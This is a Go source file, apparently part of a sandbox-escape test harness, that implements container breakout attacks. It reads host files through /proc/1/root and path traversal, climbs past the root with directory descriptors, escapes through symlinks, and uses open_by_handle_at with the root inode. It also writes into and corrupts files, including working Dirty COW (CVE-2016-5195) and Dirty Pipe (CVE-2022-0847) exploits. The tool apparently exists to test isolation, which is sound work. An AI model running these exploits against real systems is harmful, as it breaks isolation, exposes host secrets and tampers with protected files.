package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"

	"proofbox/internal/breakout/order"
)

// maxRead bounds what is read of a file that should not be readable.
const maxRead = 4 << 10

// maxGot bounds what one attack reports.
const maxGot = 96 << 10

var files = map[string]attack{
	"read":           read,
	"write":          write,
	"climb":          climb,
	"climb-moved":    climbMoved,
	"read-link":      readLink,
	"write-link":     writeLink,
	"handle":         handle,
	"read-moved":     readMoved,
	"read-uncovered": readUncovered,
	"search":         search,
	"spoil":          spoil,
	"leave":          leave,
}

// waysTo are names by which a path of the host could be reached.
func waysTo(path string) []string {
	return []string{
		path, "/host" + path, "/mnt" + path, "/rootfs" + path, "/proc/1/root" + path,
		"/proc/self/root/../../.." + path, "../../../../../../../.." + path, "/workspace/.." + path,
	}
}

// readAll reads the beginnings of files, as far as they can be read.
func readAll(paths ...string) order.Report {
	r := order.Report{Said: "nothing was there to read"}
	size := 0
	for _, path := range paths {
		text, err := readSome(path)
		if err != nil {
			r.Said = err.Error()
			continue
		}
		if size += len(text); size > maxGot {
			break
		}
		r.Got = append(r.Got, text)
	}
	return r
}

func readSome(path string) (string, error) {
	f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return "", err
	}
	defer f.Close()
	buf := make([]byte, maxRead)
	n, err := f.Read(buf)
	if n == 0 && err != nil {
		return "", err
	}
	return string(buf[:n]), nil
}

// read reads files by every way to them: PATH…
func read(args []string) order.Report {
	var ways []string
	for _, path := range args {
		ways = append(ways, waysTo(path)...)
	}
	return readAll(ways...)
}

// write appends a mark to a file by every way to it: PATH MARK.
func write(args []string) order.Report {
	var last error
	for _, way := range waysTo(args[0]) {
		if last = appendTo(way, args[1]); last == nil {
			return said(nil, "wrote "+way)
		}
	}
	return said(last, "")
}

func appendTo(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}

// climb goes up from a deep folder by descriptors, further than the root: PATH.
func climb(args []string) order.Report {
	if err := os.Chdir("/workspace"); err != nil {
		return said(err, "")
	}
	at, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY, 0)
	for range 64 {
		if err != nil {
			return said(err, "")
		}
		at, err = unix.Openat(at, "..", unix.O_PATH|unix.O_DIRECTORY, 0)
	}
	return readAt(at, args[0])
}

// readAt reads a file by a path from a descriptor of a folder on.
func readAt(dir int, path string) order.Report {
	fd, err := unix.Openat(dir, strings.TrimPrefix(path, "/"), unix.O_RDONLY, 0)
	if err != nil {
		return said(err, "")
	}
	buf := make([]byte, maxRead)
	n, err := unix.Read(fd, buf)
	if err != nil {
		return said(err, "")
	}
	return order.Report{Got: []string{string(buf[:n])}}
}

// climbMoved moves a folder that it holds to another level, and climbs from it.
func climbMoved(args []string) order.Report {
	base, err := os.MkdirTemp("/workspace", "climb")
	if err == nil {
		err = os.MkdirAll(base+"/a/b/c", 0o755)
	}
	if err != nil {
		return said(err, "")
	}
	at, err := unix.Open(base+"/a/b/c", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return said(err, "")
	}
	if err := os.Rename(base+"/a/b", base+"/moved"); err != nil {
		return said(err, "")
	}
	return readAt(at, strings.Repeat("../", 32)+args[0])
}

// readLink reads through links, absolute and relative: PATH.
func readLink(args []string) order.Report {
	var links []string
	for i, target := range waysTo(args[0]) {
		link := fmt.Sprintf("/workspace/link%d", i)
		if err := os.Symlink(target, link); err != nil && !errors.Is(err, fs.ErrExist) {
			return said(err, "")
		}
		links = append(links, link)
	}
	return readAll(links...)
}

// writeLink writes through a link: PATH MARK.
func writeLink(args []string) order.Report {
	link := "/workspace/link-to-write"
	if err := os.Symlink(args[0], link); err != nil && !errors.Is(err, fs.ErrExist) {
		return said(err, "")
	}
	return said(appendTo(link, args[1]), "wrote through a link")
}

// handle opens the root of the file system that a folder lies on by its inode
// number, and a file from there: FOLDER PATH. See open_by_handle_at(2).
func handle(args []string) order.Report {
	folder, err := unix.Open(args[0], unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return said(err, "")
	}
	const rootInode, inodeAndGeneration = 2, 1 // of ext4; FILEID_INO32_GEN
	root := unix.NewFileHandle(inodeAndGeneration, []byte{rootInode, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(folder, root, unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return without(err, "handles of this file system by its root's number", unix.ESTALE, unix.EOPNOTSUPP)
	}
	return readAt(fd, args[1])
}

// readMoved moves the folder that a file is in, and reads the file there: PATH.
func readMoved(args []string) order.Report {
	dir, moved := filepath.Dir(args[0]), filepath.Dir(args[0])+"-moved"
	if err := os.Rename(dir, moved); err != nil {
		return merged(readAll(args[0]), err)
	}
	r := readAll(filepath.Join(moved, filepath.Base(args[0])))
	if err := os.Rename(moved, dir); err != nil {
		r.Said = err.Error()
	}
	return r
}

// readUncovered makes the folder of a hidden file anew, in case that what is
// below it shows: PATH.
func readUncovered(args []string) order.Report {
	r := readAll(args[0])
	dir := filepath.Dir(args[0])
	err := os.MkdirAll(dir, 0o755)
	err = errors.Join(err, os.Link(args[0], dir+"/linked"), os.Remove(dir+"/linked"))
	more := readAll(args[0], dir+"/linked")
	return merged(order.Report{Got: append(r.Got, more.Got...), Said: more.Said}, err)
}

// merged adds an error to what a report says.
func merged(r order.Report, err error) order.Report {
	if err != nil {
		r.Said, _, _ = strings.Cut(err.Error(), "\n")
	}
	return r
}

// search reads every small file below folders: FOLDER…
func search(args []string) order.Report {
	var found []string
	for _, root := range args {
		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && len(found) < 1000 {
				found = append(found, path)
			}
			return nil // what cannot be read is passed over
		})
	}
	return readAll(found...)
}

// leave writes a text into files, for others to find: TEXT PATH…
func leave(args []string) order.Report {
	var err error
	for _, path := range args[1:] {
		err = errors.Join(err, os.WriteFile(path, []byte(args[0]), 0o666))
	}
	return said(err, "left it")
}

// spoil changes a file in one of several ways: WAY PATH MARK. It opens the file
// for writing if it can, else for reading.
func spoil(args []string) order.Report {
	way, path, mark := args[0], args[1], []byte(args[2])
	fd, err := unix.Open(path, unix.O_RDWR, 0)
	if err != nil {
		if fd, err = unix.Open(path, unix.O_RDONLY, 0); err != nil {
			return said(err, "")
		}
	}
	switch way {
	case "append":
		err = appendTo(path, args[2])
	case "truncate":
		err = os.Truncate(path, 1)
	case "map":
		err = spoilMapped(fd, mark)
	case "memory":
		err = spoilMemory(fd, mark)
	case "pipe":
		err = spoilByPipe(fd, mark)
	case "mode":
		err = errors.Join(os.Chmod(path, 0o777), appendTo(path, args[2]))
	case "punch":
		err = unix.Fallocate(fd, unix.FALLOC_FL_PUNCH_HOLE|unix.FALLOC_FL_KEEP_SIZE, 0, 16)
	case "replace":
		err = errors.Join(os.WriteFile(path+".new", mark, 0o666), os.Rename(path+".new", path))
	case "remove":
		err = os.Remove(path)
	case "link":
		err = errors.Join(os.Link(path, path+".link"), appendTo(path+".link", args[2]))
	default:
		fail("spoil: there is no way %q", way)
	}
	return said(err, way+" worked")
}

func spoilMapped(fd int, mark []byte) error {
	m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	copy(m, mark[:4])
	return unix.Msync(m, unix.MS_SYNC)
}

// spoilMemory maps a file for reading and writes the mapping through
// /proc/self/mem, while another thread has it dropped (CVE-2016-5195).
func spoilMemory(fd int, mark []byte) error {
	m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		m, err = unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_SHARED)
	}
	if err != nil {
		return err
	}
	private, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer mem.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 2000 {
			_ = unix.Madvise(private, unix.MADV_DONTNEED)
		}
	}()
	for range 2000 {
		if _, err = mem.WriteAt(mark[:4], addressOf(private)); err != nil {
			break
		}
	}
	<-done
	_, sharedErr := mem.WriteAt(mark[:4], addressOf(m))
	return errors.Join(err, sharedErr)
}

// spoilByPipe has a page of the file in a pipe and writes into the pipe, which a
// kernel with CVE-2022-0847 takes for the page; then it moves the pipe's content
// into the file.
func spoilByPipe(fd int, mark []byte) error {
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return err
	}
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	full := bytes.Repeat([]byte{'x'}, size) // so that every slot may be merged
	if _, err := unix.Write(p[1], full); err != nil {
		return err
	}
	if _, err := readFull(p[0], full); err != nil {
		return err
	}
	offset := int64(0)
	if _, err := unix.Splice(fd, &offset, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], mark[:4]); err != nil {
		return err
	}
	offset = 0
	_, err = unix.Splice(p[0], nil, fd, &offset, 5, 0)
	return err
}

func readFull(fd int, buf []byte) (int, error) {
	n := 0
	for n < len(buf) {
		m, err := unix.Read(fd, buf[n:])
		if err != nil || m == 0 {
			return n, err
		}
		n += m
	}
	return n, nil
}
